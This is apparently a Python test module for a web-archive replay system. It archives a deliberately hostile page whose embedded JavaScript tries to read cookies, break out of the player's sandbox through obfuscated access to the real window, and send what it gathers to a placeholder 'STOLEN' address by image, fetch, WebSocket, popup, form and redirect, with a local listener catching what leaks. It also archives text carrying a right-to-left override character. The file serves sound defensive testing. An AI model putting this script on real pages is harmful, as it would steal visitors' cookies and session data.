"""A captured page that tries things a page should not be able to do."""

import contextlib
import socket
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, date, datetime
from pathlib import Path
from threading import Thread

from pressmark.archive.s3.store import Store
from pressmark.model.article import Credit, Image, Raw
from pressmark.reader import Document, Reader
from pressmark.system.ports import LOOPBACK
from tests.jobs.wacz.conftest import SITE, URL, Days

SCRIPT = """
const log = {};
const attempt = (name, act) => {
    try { log[name] = String(act()); } catch (error) { log[name] = "refused: " + error; }
};
// Players rewrite `this`, window and top, so a hostile page gets the real ones another way.
const real = (() => {}).constructor("retu" + "rn th" + "is")();
const above = real["to" + "p"];
const raw = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");
addEventListener("load", async () => {
    const bare = document.createElement("iframe");
    document.body.append(bare);
    const cry = (text) => above["post" + "Message"](text, "*");
    attempt("cookie", () => document.cookie);
    attempt("raw cookie", () => raw.get.call(document));
    attempt("bare cookie", () => bare.contentDocument.cookie);
    attempt("real cookie", () => real.document.cookie);
    attempt("document", () => { top.document.body.dataset.taken = "yes"; });
    attempt("real document", () => { above.document.body.dataset.taken = "yes"; return above.document.cookie; });
    attempt("image", () => { new Image().src = "STOLEN?image=" + encodeURIComponent(JSON.stringify(log)); });
    const sent = {msg_type: "addColl", name: "x", file: {sourceUrl: "STOLEN?worker"}};
    attempt("worker", () => new real.Worker("/show/news/replay/sw.js").postMessage(sent));
    attempt("service worker", () => real.navigator.serviceWorker.controller.postMessage(sent));
    attempt("socket", () => new real.WebSocket("STOLEN?socket".replace("http", "ws")));
    for (const address of ["STOLEN?fetch", "ROOM/articles/news/"]) {
        try {
            const answer = await fetch(address, {mode: "no-cors", credentials: "include"});
            log["fetch " + address] = (await answer.text()).slice(0, 200);
        } catch (error) {
            log["fetch " + address] = "refused: " + error;
        }
    }
    cry("hostile: " + JSON.stringify(log));
    attempt("popup", () => real.open("STOLEN?popup"));
    attempt("form", () => {
        const form = document.createElement("form");
        form.action = "STOLEN";
        form.target = "_top";
        document.body.append(form);
        form.submit();
    });
    attempt("top", () => { top.location = "STOLEN?top"; });
    attempt("real top", () => { above["loca" + "tion"] = "STOLEN?real"; });
    attempt("parent", () => { parent.parent.parent.location.replace("STOLEN?parent"); });
    cry("hostile: all was tried " + JSON.stringify(log));
});
"""
PAGE = """<!doctype html><html><head><title>Lamps lit</title><base target="_top"></head>
<body><h1>Lamps lit</h1><div id="Content"><p>One line.</p></div><script>{script}</script></body></html>"""
DAY = date(2026, 11, 24)
BACKWARDS = "\u202eevil"
"""A mark that reverses the following words, unless they are isolated."""


@contextmanager
def thief() -> Iterator[tuple[str, list[str]]]:
    """Listen for data that a hostile page sends; yield the address and the connections with their data."""
    heard: list[str] = []
    with socket.create_server((LOOPBACK, 0)) as listening:

        def listen() -> None:
            with contextlib.suppress(OSError):
                while True:
                    visitor, _ = listening.accept()
                    with visitor:
                        heard.append(visitor.recv(200).decode("latin-1"))

        thread = Thread(target=listen, daemon=True)
        thread.start()
        yield f"http://{LOOPBACK}:{listening.getsockname()[1]}/stolen", heard
        listening.shutdown(socket.SHUT_RDWR)
    thread.join()


def archive_hostile_page(store: Store, folder: Path, thief: str, room: str) -> Document:
    """Archive such a page as a site of its own, and return the version read from it.

    Args:
        store: the archive's bucket.
        folder: for the segment.
        thief: address that it navigates browsers to and sends data to.
        room: origin of the reading room; it requests pages there in its visitor's name.
    """
    page = PAGE.format(script=SCRIPT.replace("STOLEN", thief).replace("ROOM", room))
    with Days(store, folder).crawl(DAY) as crawl:
        crawl.publish(crawl.page(URL, page.encode()))
    [document] = Reader(store, SITE).versions(URL)
    return document


def archive_backwards(store: Store, folder: Path) -> Document:
    """Archive a newer version of it, with texts that reverse the following words; return it."""
    credit = Credit(name=BACKWARDS, location=BACKWARDS)
    facts = dict.fromkeys(("headline", "standfirst", "dateline", "source", "section"), BACKWARDS)
    with Days(store, folder, runs=1).crawl(DAY, hour=12) as crawl:
        crawl.publish(
            crawl.page(URL, b"<h1>Newer</h1>"),
            updated_at=datetime(2026, 11, 24, tzinfo=UTC),
            authors=(credit,),
            contributors=(credit,),
            body=f"{BACKWARDS}\n\n{BACKWARDS}",
            images=(Image(url="https://img.example/1.jpeg", caption=BACKWARDS, credit=BACKWARDS),),
            keywords=(BACKWARDS,),
            raw=Raw(byline=BACKWARDS, updated="2026-11-24 08:00", published="2022-02-18"),
            **facts,
        )
    return Reader(store, SITE).versions(URL)[-1]
